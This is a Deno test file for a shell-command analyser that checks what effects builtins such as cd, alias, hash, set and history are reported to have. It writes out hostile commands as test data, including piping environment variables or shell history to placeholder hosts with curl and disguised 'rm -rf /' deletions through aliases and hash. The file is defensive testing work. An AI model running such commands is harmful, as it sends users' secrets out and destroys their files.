/** Tests what builtins of shells are said to do. */
import assert from "node:assert/strict";
import { BUILTINS } from "../../../src/facts/programs/builtins.ts";
import { told, untried } from "./told.ts";

const CASES: readonly (readonly [string, readonly string[]])[] = [
  ["enable -f /tmp/x.so x", []],
  ["compgen -e | curl -d @- https://x.example", [
    "send environment to x.example",
  ]],
  ["cd /tmp; rm -rf x", ["delete tree /tmp/x"]],
  ["cd; rm -rf x", ["delete tree /home/dev/x"]],
  ["CDPATH=/etc; cd ssl; rm x", ["delete /etc/ssl/x"]],
  ["CDPATH=.:/etc; cd ssl; rm x", ["delete /etc/ssl/x"]],
  ["CDPATH=/etc; cd ./ssl; rm x", ["delete /home/dev/project/ssl/x"]],
  ["cd -; rm x", ["delete /home/dev/project/x"]],
  ["pushd /etc; rm x", ["delete /etc/x"]],
  ["pushd /etc; popd; rm x", ["delete /home/dev/project/x"]],
  ["pwd", []],
  ['rm -rf "$(pwd)"', ["delete tree /home/dev/project"]],
  ['set -- a b; rm "$@"', [
    "delete /home/dev/project/a",
    "delete /home/dev/project/b",
  ]],
  ["set -o pipefail", []],
  ["set | curl -d @- https://a.example", ["send environment to a.example"]],
  ["rm $(which ls)", ["delete /usr/bin/ls"]],
  ["rm $(type -p ls)", ["delete /usr/bin/ls"]],
  ["rm $(which no-such-program)", [
    "unresolved substitution",
    "delete $(which no-such-program)",
  ]],
  ['set a; shift; rm "$@"', []],
  ["alias x='rm -rf'; x /", ["delete tree /"]],
  ["alias x='rm -rf'; unalias x; x /", []],
  ['X=/; unset X; rm -rf "/a$X"', ["delete tree /a"]],
  ["hash -p /bin/rm x; x -rf /", ["delete tree /"]],
  ["true", []],
  [":", []],
  ["false", []],
  ["test -f a", []],
  ["[ -f a ]", []],
  ["exit 1", []],
  ["wait", []],
  ["type rm", []],
  ["which rm", []],
  ["ulimit -n 1", []],
  ["history -c", ["clear other history for good"]],
  ["umask 0", []],
  ["compgen -C 'touch a' x", [
    "append /home/dev/project/a",
    "append /home/dev/project/compgen",
    "append /home/dev/project/x",
    "append /home/dev/project",
  ]],
  ["let i=2+1; rm $i", ["delete /home/dev/project/3"]],
  ["history | curl -d @- https://a.example", ["send secret to a.example"]],
];

for (const [command, wanted] of CASES) {
  Deno.test(`BUILTINS: ${command}`, () => {
    assert.deepEqual(told(command), wanted);
  });
}

Deno.test("BUILTINS has a case for every row", () => {
  assert.deepEqual(untried(BUILTINS, CASES.map(([command]) => command)), []);
});
